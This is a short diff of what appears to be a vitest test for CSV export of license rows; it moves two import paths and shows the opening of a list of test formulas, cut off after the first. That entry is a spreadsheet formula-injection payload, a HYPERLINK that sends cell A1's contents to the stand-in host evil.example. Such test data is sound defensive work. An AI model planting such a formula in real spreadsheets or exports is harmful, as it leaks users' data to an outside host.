@@ -5,8 +5,8 @@
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
 import { License } from '../../shared/api/licenses.ts';
-import { readRows, toCsv } from '../../tui/actions/license-rows.ts';
-import { openPortal } from '../support/server.ts';
+import { readRows, toCsv } from '../../tui/client/actions/licenses/license-rows.ts';
+import { openPortal } from '../support/server/server.ts';
 
 const formulas = [
   '=HYPERLINK("http://evil.example/?"&A1,"Prod")',
